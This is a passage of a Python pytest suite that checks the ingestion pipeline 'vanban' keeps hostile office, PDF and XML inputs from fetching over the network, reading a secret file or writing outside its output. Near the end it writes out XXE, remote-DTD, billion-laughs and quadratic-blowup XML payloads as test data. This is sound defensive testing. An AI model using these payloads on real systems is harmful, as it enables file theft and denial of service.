    "office/linked.rtf": (linked_rtf, "document"),
    "office/linked.odt": (linked_odt, "document"),
    "office/xxe.odt": (xxe_odt, "any"),
    "office/web_page.doc": (web_page_doc, "document"),
    "office/docx_named.doc": (docx_named_doc, "document"),
    "office/flat_linked.doc": (flat_linked_doc, "document"),
    "office/flat_xxe.doc": (flat_xxe_doc, "any"),
    "pdf/actions.pdf": (actions_pdf, "document"),
    "pdf/scan.pdf": (scan_pdf, "any"),
    "text/links.md": (links_md, "document"),
    "text/links.txt": (links_txt, "document"),
    "text/web_page.html": (web_page_html, "error"),
}
# Run on its own (`test_libreoffice_opens_no_picture_linked_from_disk`): LibreOffice
# opens the secret for it, which would hide any other file doing so.
PICTURE_FROM_DISK = "office/include_picture_file.rtf"
BUILDERS = {**{name: builder for name, (builder, _) in HOSTILE.items()}}
BUILDERS[PICTURE_FROM_DISK] = include_picture_file_rtf
LIBREOFFICE_FILES = [name for name in HOSTILE if name.startswith("office/")]


def build_inputs(folder: Path, ctx: Ctx, names: list[str]) -> None:
    for name in names:
        data = BUILDERS[name](ctx)
        assert MARKER.encode() not in data, name
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


# --- the run ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Entry:
    size: int
    sha256: str
    mtime_ns: int
    mode: int


def snapshot(folder: Path) -> dict[str, Entry]:
    """Every entry below `folder` with its size, SHA-256 (files), time and mode."""
    found: dict[str, Entry] = {}
    for path in sorted(folder.rglob("*")):
        st = path.lstat()
        regular = path.is_file() and not path.is_symlink()
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if regular else ""
        found[str(path.relative_to(folder))] = Entry(st.st_size, digest, st.st_mtime_ns, st.st_mode)
    return found


@dataclass
class Run:
    root: Path
    inp: Path
    out: Path
    home: Path
    tmp: Path
    cwd: Path
    secret: Path
    names: list[str]
    before: dict[str, Entry]
    secret_before: dict[str, Entry]
    proc: subprocess.CompletedProcess[str]
    seconds: float
    hits: list[str]
    trace: Trace | None
    records: dict[str, list[dict[str, Any]]] = field(default_factory=dict)


# -ttt: calls of all processes in the order they were made; --pidns-translation: the
# processes a process in a PID namespace starts, by the numbers their trace files have.
_STRACE = ["strace", "-f", "-qq", "-y", "-ttt", "--pidns-translation", "--seccomp-bpf"]


@functools.cache
def _strace_works() -> bool:
    if shutil.which("strace") is None:
        return False
    probe = [*_STRACE, "-e", "trace=openat", "-o", "/dev/null"]
    try:
        done = subprocess.run([*probe, "true"], capture_output=True, timeout=30)
    except (OSError, subprocess.TimeoutExpired):
        return False
    return done.returncode == 0


_TRACED = [
    # network
    "connect", "sendto", "sendmsg", "sendmmsg", "bind",
    # files created, changed or removed (and opened: the secret must never be)
    "open", "openat", "openat2", "creat", "mkdir", "mkdirat", "mknod", "mknodat",
    "rename", "renameat", "renameat2", "link", "linkat", "symlink", "symlinkat",
    "unlink", "unlinkat", "rmdir", "truncate", "chmod", "fchmodat", "chown", "lchown",
    "fchownat", "utime", "utimes", "futimesat", "utimensat",
    # to resolve relative paths: working directories and who inherits them
    "chdir", "fchdir", "clone", "clone3", "fork", "vfork",
    # to know where a path is: mount namespaces, mounts, changed roots
    "unshare", "setns", "mount", "umount2", "chroot", "pivot_root", "open_tree",
    "move_mount", "fsmount",
]  # fmt: skip


def ingest(
    base: Path, ctx: Ctx, server: Recorder, names: list[str], *, trace: bool, path_prefix: str = ""
) -> Run:
    """Build `names` under base/in, run `vanban ingest` on them as described above."""
    dirs = {name: base / name for name in ("in", "out", "home", "tmp", "cwd", "trace")}
    for d in dirs.values():
        d.mkdir(parents=True)
    build_inputs(dirs["in"], ctx, names)
    os.utime(dirs["in"], ns=(1_700_000_000_000_000_000, 1_700_000_000_000_000_000))
    before = snapshot(dirs["in"])
    secret_before = snapshot(ctx.secret.parent)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("XDG_", "VANBAN_"))}
    env.update(
        HOME=str(dirs["home"]),
        TMPDIR=str(dirs["tmp"]),
        TMP=str(dirs["tmp"]),
        TEMP=str(dirs["tmp"]),
        PWD=str(dirs["cwd"]),
        PYTHONUNBUFFERED="1",
    )
    if path_prefix:
        env["PATH"] = path_prefix + os.pathsep + env.get("PATH", "")
    command = [
        sys.executable, "-m", "vanban.pipeline.cli", "ingest", str(dirs["in"]),
        "--out", str(dirs["out"]), "--quiet", "--workers", "2",
        "--no-fail-on-error",  # completing is the point; some inputs end as error records
    ]  # fmt: skip
    prefix = dirs["trace"] / "t"
    if trace:
        command = [
            *_STRACE, "-ff", "-e", "signal=none",
            "-e", "trace=" + ",".join("?" + name for name in _TRACED), "-o", str(prefix),
            *command,
        ]  # fmt: skip
    hits_before = len(server.hits)
    started = time.monotonic()
    proc = subprocess.run(
        command,
        cwd=dirs["cwd"],
        env=env,
        capture_output=True,
        text=True,
        timeout=PROCESS_TIMEOUT,
    )
    seconds = time.monotonic() - started
    time.sleep(0.2)  # a request still on its way
    run = Run(
        root=base,
        inp=dirs["in"],
        out=dirs["out"],
        home=dirs["home"],
        tmp=dirs["tmp"],
        cwd=dirs["cwd"],
        secret=ctx.secret,
        names=names,
        before=before,
        secret_before=secret_before,
        proc=proc,
        seconds=seconds,
        hits=server.hits[hits_before:],
        trace=Trace.read(dirs["trace"], dirs["cwd"]) if trace else None,
    )
    for kind in ("documents", "errors"):
        path = dirs["out"] / f"{kind}.jsonl"
        lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
        run.records[kind] = [json.loads(line) for line in lines if line.strip()]
    return run


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory, secret: Path, server: Recorder) -> Run:
    base = tmp_path_factory.mktemp("isolation")
    ctx = Ctx(url=server.url, secret=secret)
    return ingest(base, ctx, server, list(HOSTILE), trace=_strace_works())


# --- reading the strace output ----------------------------------------------------------


_LINE = re.compile(
    r"^(?P<time>\d+\.\d+) (?P<name>\w+)\((?P<args>.*)\)\s+=\s+"
    r"(?P<ret>-?\d+|0x[0-9a-f]+|\?)(?P<rest>.*)$"
)
# What a process started in a PID namespace is called in ours (--pidns-translation).
_TRANSLATED_PID = re.compile(r"^\s*/\* (\d+) in strace's PID NS \*/")
_FORKS = {"clone", "clone3", "fork", "vfork"}
# Calls that change what a path names in ways `Trace` does not follow.
_UNMODELLED = {"setns", "pivot_root", "open_tree", "move_mount", "fsmount"}
_FD_PATH = re.compile(r"^(?:-?\d+|AT_FDCWD)(?:<(?P<path>.*)>)?$")
_WRITE_FLAGS = ("O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC", "O_TMPFILE")
# (dirfd argument, path argument) pairs of what each call creates, changes or removes.
_WRITES: dict[str, list[tuple[int | None, int]]] = {
    "creat": [(None, 0)], "mkdir": [(None, 0)], "mknod": [(None, 0)], "rmdir": [(None, 0)],
    "unlink": [(None, 0)], "truncate": [(None, 0)], "chmod": [(None, 0)], "chown": [(None, 0)],
    "lchown": [(None, 0)], "utime": [(None, 0)], "utimes": [(None, 0)],
    "mkdirat": [(0, 1)], "mknodat": [(0, 1)], "unlinkat": [(0, 1)], "fchmodat": [(0, 1)],
    "fchownat": [(0, 1)], "futimesat": [(0, 1)], "utimensat": [(0, 1)],
    "rename": [(None, 0), (None, 1)], "renameat": [(0, 1), (2, 3)], "renameat2": [(0, 1), (2, 3)],
    "link": [(None, 1)], "linkat": [(2, 3)], "symlink": [(None, 1)], "symlinkat": [(1, 2)],
}  # fmt: skip


def _split_args(args: str) -> list[str]:
    """strace's argument list split at top-level commas (not inside quotes or brackets)."""
    parts: list[str] = []
    current: list[str] = []
    depth, quoted, escaped = 0, False, False
    for ch in args:
        if quoted:
            if escaped:
                escaped = False
            elif ch == "\\":
                escaped = True
            elif ch == '"':
                quoted = False
        elif ch == '"':
            quoted = True
        elif ch in "{[(<":  # `<` opens the path -y prints after a file descriptor
            depth += 1
        elif ch in "}])>":
            depth -= 1
        elif ch == "," and depth == 0:
            parts.append("".join(current).strip())
            current = []
            continue
        current.append(ch)
    parts.append("".join(current).strip())
    return parts


def _unquote(arg: str) -> str | None:
    if not (arg.startswith('"') and arg.rstrip(".").endswith('"')):
        return None
    raw = arg.rstrip(".")[1:-1]
    data = codecs.escape_decode(raw.encode("latin-1", "backslashreplace"))[0]
    return data.decode("utf-8", "surrogateescape")


@dataclass(frozen=True)
class _Mount:
    """A mount made during the run in a mount namespace made during the run, on `target` (a
    path of that namespace): a bind mount of `source`, where that is on this machine, or,
    with `source` None, a file system private to the namespace (a tmpfs, a /proc) or a bind
    mount of something in one."""

    target: str
    source: str | None


@dataclass
class _Process:
    cwd: str  # as the process names it, below its root
    root: str = "/"  # where chroot put it, a path of its mount namespace
    ns: int = 0  # its mount namespace, 0: this machine's


def _within(path: str, folder: str) -> bool:
    return folder == "/" or path == folder or path.startswith(folder + "/")


@dataclass
class Trace:
    """What the traced processes did: paths written, paths opened, internet connections.

    Every path is where it is on this machine. A process can be in a mount namespace of
    its own with mounts of its own, and chrooted (as `vanban.pipeline.convert` runs LibreOffice):
    a path it names is then followed through the mounts made in its namespace, in the
    order all processes made their calls. What lands in a file system private to such a
    namespace (a tmpfs that goes with it) is in `private`, not in `writes`; calls that
    change mounts in ways not followed here are in `unmodelled`."""

    writes: list[tuple[int, str, str]] = field(default_factory=list)  # (pid, call, path)
    opened: list[tuple[int, str, str]] = field(default_factory=list)  # every path opened
    private: list[tuple[int, str, str]] = field(default_factory=list)  # (pid, call, path there)
    network: list[tuple[int, str]] = field(default_factory=list)  # (pid, line)
    unmodelled: list[tuple[int, str]] = field(default_factory=list)  # (pid, line)
    unparsed: int = 0
    _processes: dict[int, _Process] = field(default_factory=dict, repr=False)
    _mounts: dict[int, list[_Mount]] = field(default_factory=lambda: {0: []}, repr=False)

    @classmethod
    def read(cls, folder: Path, cwd: Path) -> Trace:
        """Read the trace files `folder`/t.PID of processes started in `cwd`."""
        trace = cls()
        calls: list[tuple[int, int, int, re.Match[str]]] = []
        for path in folder.glob("t.*"):
            pid = int(path.name.rsplit(".", 1)[1])
            for n, line in enumerate(path.read_text(encoding="latin-1").splitlines()):
                m = _LINE.match(line)
                if m is None:
                    trace.unparsed += 1  # signals, exits
                    continue
                seconds, micro = m["time"].split(".")
                calls.append((int(seconds) * 1_000_000 + int(micro), pid, n, m))
        calls.sort(key=lambda call: call[:3])
        for _, pid, _, m in calls:
            process = trace._processes.setdefault(pid, _Process(str(cwd)))
            trace._call(pid, process, m)
        return trace

    def _where(self, ns: int, path: str) -> str | None:
        """Where a path of mount namespace `ns` is on this machine; None: in a file system
        private to the namespace."""
        found: _Mount | None = None
        for mount in self._mounts[ns]:  # the latest of the deepest
            if _within(path, mount.target) and (
                found is None or len(mount.target) >= len(found.target)
            ):
                found = mount
        if found is None:
            return path
        if found.source is None:
            return None
        return os.path.normpath(found.source + "/" + path[len(found.target) :])

    def _call(self, pid: int, process: _Process, m: re.Match[str]) -> None:
        name, ret, rest = m["name"], m["ret"], m["rest"]
        ok = ret not in {"?"} and not ret.startswith("-")
        args = _split_args(m["args"])
        line = m.group(0)

        def resolve(dirfd: int | None, index: int) -> str | None:
            """The path argument, as a path of the process's mount namespace."""
            path = _unquote(args[index]) if index < len(args) else None
            if path is None:
                if name == "utimensat" and dirfd is not None:  # NULL path: the fd itself
                    fd = _FD_PATH.match(args[dirfd])
                    return fd["path"] if fd else None
                return None
            if not path.startswith("/") and dirfd is not None:
                fd = _FD_PATH.match(args[dirfd])
                if fd and fd["path"]:  # -y prints it as a path of the namespace
                    return os.path.normpath(os.path.join(fd["path"], path))
            inside = os.path.normpath(os.path.join(process.cwd, path))
            return os.path.normpath(process.root + "/" + inside)

        def record(call: str, path: str, *, write: bool) -> None:
            where = self._where(process.ns, path)
            if where is None:
                if write:
                    self.private.append((pid, call, path))
                return
            if not write:
                self.opened.append((pid, call, where))
            else:
                self.writes.append((pid, call, where))

        if name in {"connect", "sendto", "sendmsg", "sendmmsg"}:
            if "sa_family=AF_INET" in m["args"]:  # tried counts as done
                self.network.append((pid, line))
            return
        if not ok:
            return
        if name in _FORKS:
            child = _TRANSLATED_PID.match(rest)
            new = _Process(process.cwd, process.root, process.ns)
            if "CLONE_NEWNS" in m["args"]:
                new.ns = self._new_namespace(process.ns)
            self._processes[int(child[1]) if child else int(ret)] = new
        elif name == "unshare":
            if "CLONE_NEWNS" in args[0]:
                process.ns = self._new_namespace(process.ns)
        elif name == "chroot":
            process.root = resolve(None, 0) or process.root
        elif name == "chdir":
            path = _unquote(args[0])
            if path is not None:
                process.cwd = os.path.normpath(os.path.join(process.cwd, path))
        elif name == "fchdir":
            fd = _FD_PATH.match(args[0])
            if fd and fd["path"]:
                inside = os.path.relpath(fd["path"], process.root)
                process.cwd = os.path.normpath("/" + inside)
        elif name in {"mount", "umount2"}:
            self._mount(pid, process, name, args, resolve, line)
        elif name in _UNMODELLED:
            self.unmodelled.append((pid, line))
        elif name == "bind":
            unix = re.search(r'sun_path="((?:[^"\\]|\\.)*)"', m["args"])
            if unix and not unix[1].startswith("@"):
                where = _unquote(f'"{unix[1]}"') or ""
                inside = os.path.normpath(os.path.join(process.cwd, where))
                record(name, os.path.normpath(process.root + "/" + inside), write=True)
        elif name in {"open", "openat", "openat2"}:
            dirfd, index, flags = (None, 0, args[1]) if name == "open" else (0, 1, args[2])
            path = resolve(dirfd, index)
            opened = re.match(r"\s*<(.*)>", rest)  # -y: the new fd's own path
            if opened:
                path = opened[1]
            if path:
                record(name, path, write=False)
                if any(flag in flags for flag in _WRITE_FLAGS):
                    record(name, path, write=True)
        elif name in _WRITES:
            for dirfd, index in _WRITES[name]:
                path = resolve(dirfd, index)
                if path:
                    record(name, path, write=True)

    def _new_namespace(self, parent: int) -> int:
        ns = len(self._mounts)
        self._mounts[ns] = list(self._mounts[parent])
        return ns

    def _mount(
        self,
        pid: int,
        process: _Process,
        name: str,
        args: list[str],
        resolve: Callable[[int | None, int], str | None],
        line: str,
    ) -> None:
        target = resolve(None, 0 if name == "umount2" else 1)
        flags = args[3] if name == "mount" and len(args) > 3 else ""
        if process.ns == 0 or target is None or "MS_MOVE" in flags:
            # this machine's own mounts, or a move: not followed
            self.unmodelled.append((pid, line))
        elif name == "umount2":
            mounts = self._mounts[process.ns]
            for i in reversed(range(len(mounts))):
                if mounts[i].target == target:
                    del mounts[i]
                    break
        elif "MS_REMOUNT" in flags or re.search(r"MS_(PRIVATE|SHARED|SLAVE|UNBINDABLE)", flags):
            pass  # options or propagation only: the same files where they were
        elif "MS_BIND" in flags:
            source = resolve(None, 0)
            where = None if source is None else self._where(process.ns, source)
            self._mounts[process.ns].append(_Mount(target, where))
        else:
            self._mounts[process.ns].append(_Mount(target, None))


def _under(path: str, folder: Path) -> bool:
    return path == str(folder) or path.startswith(str(folder) + os.sep)


def _system_write(path: str) -> bool:
    """Writes that are not files of this run: devices, kernel interfaces, POSIX
    semaphores (multiprocessing's locks) and Python's bytecode cache."""
    if path in {"/dev/null", "/dev/tty", "/dev/full", "/dev/zero"} or path.startswith(
        ("/proc/", "/sys/", "/dev/pts/")
    ):
        return True
    if re.fullmatch(r"/dev/shm/sem\.[\w.-]+", path):
        return True
    return "/__pycache__/" in path and ".pyc" in path


def _libreoffice_internal(path: str) -> bool:
    """LibreOffice's single-instance socket, which it binds in /tmp (/var/tmp if /tmp is not
    writable) whatever TMPDIR says, and, when it may write there (as root), the stamp file
    with which it checks that its shared extension cache is writable. LibreOffice makes
    and removes both; neither holds anything of a letter. In its private view
    (`vanban.pipeline.convert._enter_view`) the socket is in a tmpfs of its own and the cache is
    read-only: neither is then written on this machine."""
    return bool(
        re.fullmatch(r"/(?:var/)?tmp/OSL_PIPE_\d+_SingleOfficeIPC_[0-9a-f]+", path)
    ) or path.endswith("/uno_packages/cache/stamp.sys")


def _outside(run: Run, *, allow_tmp: bool, allow_libreoffice: bool) -> list[str]:
    """Every path written during the run outside OUT (and TMPDIR, LibreOffice's own files
    when allowed), once, with the call and the process."""
    assert run.trace is not None
    assert run.trace.unmodelled == [], "mounts the trace cannot follow"
    found: dict[str, str] = {}
    for pid, call, path in run.trace.writes:
        path = path.removesuffix(" (deleted)")
        if _under(path, run.out) or _system_write(path):
            continue
        if (allow_tmp and _under(path, run.tmp)) or (
            allow_libreoffice and _libreoffice_internal(path)
        ):
            continue
        found.setdefault(path, f"{call} {path} (pid {pid})")
    return sorted(found.values())


def _records_by_file(run: Run) -> dict[str, list[tuple[str, dict[str, Any]]]]:
    by_file: dict[str, list[tuple[str, dict[str, Any]]]] = {}
    for kind, records in run.records.items():
        for rec in records:
            name = str(Path(rec["source"]["path"]).resolve().relative_to(run.inp.resolve()))
            by_file.setdefault(name, []).append((kind, rec))
    return by_file


def outcome(kind: str, rec: dict[str, Any]) -> str:
    if kind == "errors":
        return f"error {rec['error']}"
    warnings = rec.get("warnings") or []
    return f"document ({len(rec.get('text', ''))} chars, {len(warnings)} warnings)"


def _all_output(run: Run) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(run.out.rglob("*")) if p.is_file())


# --- the checks -------------------------------------------------------------------------


def test_the_run_completes(run: Run) -> None:
    assert run.proc.returncode == 0, run.proc.stderr[-3000:]


def test_no_request_reaches_the_server(run: Run) -> None:
    assert run.hits == [], "the run fetched over HTTP:\n" + "\n".join(run.hits)


def test_no_process_connects_to_an_internet_socket(run: Run) -> None:
    if run.trace is None:
        pytest.skip("strace is not installed or cannot trace here")
    assert run.trace.network == [], "\n".join(line for _, line in run.trace.network)


def test_neither_the_secret_nor_fetched_content_is_in_the_output(run: Run) -> None:
    data = _all_output(run)
    assert data, "OUT is empty"
    assert MARKER.encode() not in data
    assert NET_MARKER.encode() not in data


def _secret_opened(run: Run) -> list[str]:
    assert run.trace is not None
    return sorted(
        {f"{call} by pid {pid}" for pid, call, path in run.trace.opened if path == str(run.secret)}
    )


def test_the_secret_is_never_opened(run: Run) -> None:
    if run.trace is None:
        pytest.skip("strace is not installed or cannot trace here")
    assert _secret_opened(run) == []


@functools.cache
def _libreoffice_view() -> bool:
    """Whether `vanban.pipeline.convert` runs LibreOffice in its private view here (the kernel and
    our rights allow mount, PID and network namespaces)."""
    from vanban.pipeline import convert

    soffice = convert.find_soffice()
    return soffice is not None and convert._sandbox(soffice).private


def test_libreoffice_opens_no_picture_linked_from_disk(
    tmp_path: Path, secret: Path, server: Recorder
) -> None:
    """An RTF or Word INCLUDEPICTURE field linking a file on this machine: LibreOffice's
    import filter opens it, whatever the profile's settings, but in its private view the
    file is not there (only the system folders and its work folder are)."""
    if not _strace_works():
        pytest.skip("strace is not installed or cannot trace here")
    if shutil.which("soffice") is None and shutil.which("libreoffice") is None:
        pytest.skip("LibreOffice is not installed")
    ctx = Ctx(url=server.url, secret=secret)
    result = ingest(tmp_path / "run", ctx, server, [PICTURE_FROM_DISK], trace=True)
    assert result.proc.returncode == 0, result.proc.stderr[-3000:]
    assert sorted(_records_by_file(result)) == [PICTURE_FROM_DISK]
    assert MARKER.encode() not in _all_output(result)
    if not _libreoffice_view():
        pytest.xfail(
            "no private view for LibreOffice here (no mount, PID or user namespaces): its "
            "RTF and DOCX import opens a picture an INCLUDEPICTURE field links to a local "
            "file (nothing of it reaches OUT: checked above)"
        )
    assert _secret_opened(result) == []


def test_every_input_ends_in_exactly_one_record(run: Run) -> None:
    by_file = _records_by_file(run)
    assert sorted(by_file) == sorted(run.names)
    twice = {name: [k for k, _ in recs] for name, recs in by_file.items() if len(recs) != 1}
    assert twice == {}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_each_input_gives_the_record_it_should(run: Run, name: str) -> None:
    records = _records_by_file(run).get(name, [])
    assert len(records) == 1, records
    kind, rec = records[0]
    want = HOSTILE[name][1]
    got = "document" if kind == "documents" else "error"
    assert want in {"any", got}, f"{name}: {outcome(kind, rec)}: {rec.get('message', '')}"
    if kind == "documents":
        assert MARKER not in rec["text"]
        assert NET_MARKER not in rec["text"]
        if name.startswith(("docx/", "office/")) and "xxe" not in name:
            # the letter around the links is still read
            assert "Sở Tài chính" in rec["text"], rec["text"][:500]
        if "quadratic" in name or "laughs" in name:
            assert len(rec["text"]) < 100_000, "an entity was expanded"


def test_the_input_tree_is_unchanged(run: Run) -> None:
    assert snapshot(run.inp) == run.before
    assert run.inp.stat().st_mtime_ns == 1_700_000_000_000_000_000
    assert snapshot(run.secret.parent) == run.secret_before


def test_home_tmpdir_and_cwd_are_left_empty(run: Run) -> None:
    left = {str(d): sorted(snapshot(d)) for d in (run.home, run.tmp, run.cwd) if snapshot(d)}
    assert left == {}


def test_nothing_is_written_outside_out_but_temporary_files(run: Run) -> None:
    if run.trace is None:
        pytest.skip("strace is not installed or cannot trace here")
    assert _outside(run, allow_tmp=True, allow_libreoffice=True) == []
    # and nothing landed anywhere by the zip-slip member's name
    assert not any("ZIP-SLIP" in path for _, _, path in run.trace.writes)


def test_temporary_files_stay_below_out(run: Run) -> None:
    if run.trace is None:
        pytest.skip("strace is not installed or cannot trace here")
    assert _outside(run, allow_tmp=False, allow_libreoffice=True) == []


def test_libreoffice_writes_nothing_outside_out(run: Run) -> None:
    if run.trace is None:
        pytest.skip("strace is not installed or cannot trace here")
    if not _libreoffice_view():
        pytest.xfail(
            "no private view for LibreOffice here (no mount, PID or user namespaces): it "
            "binds its single-instance socket in /tmp whatever TMPDIR says, and as root makes "
            "and removes a stamp file in its shared extension cache; both go when it exits"
        )
    assert _outside(run, allow_tmp=True, allow_libreoffice=False) == []


def test_libreoffice_socket_names_are_the_ones_vanban_removes(run: Run) -> None:
    """`vanban.pipeline.convert` removes LibreOffice's /tmp socket after a kill by computing its
    name: every socket LibreOffice bound in the run has the name computed for one of the
    run's profiles, none is left, and in LibreOffice's private view all are in its own
    /tmp, none on this machine."""
    from vanban.pipeline.convert import ipc_socket_name

    if run.trace is None:
        pytest.skip("strace is not installed or cannot trace here")
    bound = {
        path
        for _, call, path in run.trace.writes + run.trace.private
        if call == "bind" and "/OSL_PIPE_" in path
    }
    profiles = {
        path for _, call, path in run.trace.writes if call == "mkdir" and path.endswith("/profile")
    }
    names = {
        ipc_socket_name(Path(profile).as_uri(), uid)
        for profile in profiles
        for uid in {0, os.getuid()}
    }
    if not bound:
        pytest.skip("LibreOffice did not run")
    assert {Path(path).name for path in bound} <= names
    on_this_machine = {path for _, call, path in run.trace.writes if call == "bind"} & bound
    assert [path for path in on_this_machine if os.path.lexists(path)] == []
    if _libreoffice_view():
        assert on_this_machine == set()


@pytest.mark.parametrize("view", [True, False], ids=["private view", "no namespaces"])
def test_a_killed_libreoffice_leaves_no_socket_in_tmp(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, view: bool
) -> None:
    from vanban.pipeline import convert
    from vanban.schemas import LoadError

    soffice = convert.find_soffice()
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    if view and not _libreoffice_view():
        pytest.skip("no private view for LibreOffice here")
    if not view:  # its socket in this machine's /tmp, for `vanban.pipeline.convert` to remove
        monkeypatch.setattr(convert, "_sandbox", lambda soffice: convert._Sandbox())
    monkeypatch.setenv(convert.TIMEOUT_ENV, "1.5")  # killed after binding its socket, mostly
    source = tmp_path / "letter.rtf"
    source.write_bytes(_rtf([]))
    work = tmp_path / "work"
    work.mkdir()
    started = time.monotonic()
    with contextlib.suppress(LoadError):
        convert._run_soffice(soffice, source, work, source.name)
    assert time.monotonic() - started < 10
    profile = (work / "profile").as_uri()
    names = {convert.ipc_socket_name(profile, uid) for uid in {0, os.getuid()}}
    left = [os.path.join(d, n) for d in ("/tmp", "/var/tmp") for n in names]
    assert [path for path in left if os.path.lexists(path)] == []
    shutil.rmtree(work)  # nothing of the view is left mounted on it


def test_libreoffice_fetches_nothing_without_a_network_sandbox(
    tmp_path: Path, secret: Path, server: Recorder
) -> None:
    """The LibreOffice inputs again, with `unshare` unusable: the profile's settings alone
    must keep LibreOffice from fetching."""
    if shutil.which("soffice") is None and shutil.which("libreoffice") is None:
        pytest.skip("LibreOffice is not installed")
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "unshare").write_text("#!/bin/sh\nexit 1\n")
    (fake / "unshare").chmod(0o755)
    result = ingest(
        tmp_path / "run",
        Ctx(url=server.url, secret=secret),
        server,
        LIBREOFFICE_FILES,
        trace=_strace_works(),
        path_prefix=str(fake),
    )
    assert result.proc.returncode == 0, result.proc.stderr[-3000:]
    assert result.hits == [], "LibreOffice fetched over HTTP:\n" + "\n".join(result.hits)
    assert MARKER.encode() not in _all_output(result)
    assert sorted(_records_by_file(result)) == sorted(LIBREOFFICE_FILES)
    if result.trace is not None:
        assert result.trace.network == [], "\n".join(line for _, line in result.trace.network)
        assert _secret_opened(result) == []


def test_the_trace_follows_mount_namespaces_and_chroot(tmp_path: Path) -> None:
    """`Trace` places each path where it is on this machine, as `vanban.pipeline.convert` runs
    LibreOffice: a private mount namespace, a tmpfs root, read-only binds, a tmpfs /tmp
    with the work folder (below /tmp) bound back, a chroot, a process in a PID namespace."""
    pipe = "/tmp/OSL_PIPE_0_SingleOfficeIPC_ab"
    lines = {
        100: [
            "unshare(CLONE_NEWNS|CLONE_NEWPID|CLONE_NEWNET) = 0",
            'mkdir("/tmp/w/root", 0755) = 0',
            'mount("vanban", "/tmp/w/root", "tmpfs", MS_NOSUID|MS_NODEV, "mode=0755") = 0',
            'mkdir("/tmp/w/root/usr", 0777) = 0',
            'mount("/usr", "/tmp/w/root/usr", NULL, MS_BIND|MS_REC, NULL) = 0',
            'mount(NULL, "/tmp/w/root/usr", NULL, MS_RDONLY|MS_REMOUNT|MS_BIND, NULL) = 0',
            'mkdir("/tmp/w/root/tmp", 0777) = 0',
            'mount("t", "/tmp/w/root/tmp", "tmpfs", MS_NOSUID|MS_NODEV, "mode=1777") = 0',
            'mkdir("/tmp/w/root/tmp/w", 0777) = 0',
            'mount("/tmp/w", "/tmp/w/root/tmp/w", NULL, MS_BIND, NULL) = 0',
            'chroot("/tmp/w/root") = 0',
            'chdir("/tmp/w") = 0',
            "clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x7f) = 2 "
            "/* 101 in strace's PID NS */",
        ],
        101: [
            f'bind(3<socket:[1]>, {{sa_family=AF_UNIX, sun_path="{pipe}"}}, 110) = 0',
            'openat(AT_FDCWD</tmp/w/root/tmp/w>, "out/a.docx", O_RDWR|O_CREAT, 0666) = '
            "4</tmp/w/root/tmp/w/out/a.docx>",
            'openat(AT_FDCWD</tmp/w/root/tmp/w>, "/usr/x/stamp.sys", O_RDWR|O_CREAT, 0666) = '
            "5</tmp/w/root/usr/x/stamp.sys>",
            'unlink("profile/lock") = 0',
            'openat(AT_FDCWD</tmp/w/root/tmp/w>, "/tmp/secret.txt", O_RDONLY) = -1 ENOENT '
            "(No such file or directory)",
            "connect(6<socket:[2]>, {sa_family=AF_INET, sin_port=htons(80), "
            'sin_addr=inet_addr("192.0.2.1")}, 16) = -1 ENETUNREACH (Network is unreachable)',
        ],
        200: [
            'bind(3<socket:[3]>, {sa_family=AF_UNIX, sun_path="/tmp/OSL_PIPE_0_x"}, 110) = 0',
            'mount("m", "/mnt", "tmpfs", 0, NULL) = 0',
        ],
    }
    for pid, calls in lines.items():
        start = {100: 1, 101: 2, 200: 3}[pid]
        text = "".join(f"{start}.{n:06d} {call}\n" for n, call in enumerate(calls))
        (tmp_path / f"t.{pid}").write_text(text + "+++ exited with 0 +++\n")
    trace = Trace.read(tmp_path, Path("/work"))
    assert sorted((pid, path) for pid, _, path in trace.writes) == [
        (100, "/tmp/w/root"),  # before the tmpfs was mounted on it
        (101, "/tmp/w/out/a.docx"),
        (101, "/tmp/w/profile/lock"),
        (101, "/usr/x/stamp.sys"),  # a bind mount shows this machine's folder
        (200, "/tmp/OSL_PIPE_0_x"),
    ]
    assert sorted(path for _, _, path in trace.private) == [
        "/tmp/w/root/tmp",
        "/tmp/w/root/tmp/OSL_PIPE_0_SingleOfficeIPC_ab",
        "/tmp/w/root/tmp/w",
        "/tmp/w/root/usr",
    ]
    assert "/tmp/secret.txt" not in {path for _, _, path in trace.opened}
    assert [pid for pid, _ in trace.network] == [101]
    assert [pid for pid, _ in trace.unmodelled] == [200]  # a mount on this machine itself
    assert trace.unparsed == 3


# --- in-process: the XML parsers --------------------------------------------------------


def _hostile_xml(ctx: Ctx) -> dict[str, str]:
    lol = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)
    )
    return {
        "general": f'<!DOCTYPE r [<!ENTITY sec SYSTEM "{ctx.secret_uri}">'
        f'<!ENTITY net SYSTEM "{ctx.url}/inproc-general">]><r>&sec;&net;</r>',
        "parameter": f'<!DOCTYPE r [<!ENTITY % remote SYSTEM "{ctx.url}/inproc-parameter.dtd">'
        f'<!ENTITY % local SYSTEM "{ctx.secret_uri}"> %remote; %local;]><r>x</r>',
        "external subset": f'<!DOCTYPE r SYSTEM "{ctx.url}/inproc-subset.dtd"><r>&net;</r>',
        "external subset file": f'<!DOCTYPE r SYSTEM "{ctx.secret_uri}"><r>x</r>',
        "billion laughs": f"<!DOCTYPE r [{lol}]><r>&j;</r>",
        "quadratic": f'<!DOCTYPE r [<!ENTITY big "{"A" * 50_000}">]><r>{"&big;" * 20_000}</r>',
    }


def _parsers() -> dict[str, Callable[[str], Any]]:
    """Every XML parser the loading of a .docx goes through."""
    import vanban.pipeline.convert
    import vanban.pipeline.docx_numbering
    import vanban.pipeline.load_docx

    found: dict[str, Callable[[str], Any]] = {
        "docx.oxml.parser.parse_xml": oxml_parser.parse_xml,
        "docx.opc.oxml.parse_xml": opc_oxml.parse_xml,
    }
    for module in (
        vanban.pipeline.load_docx,
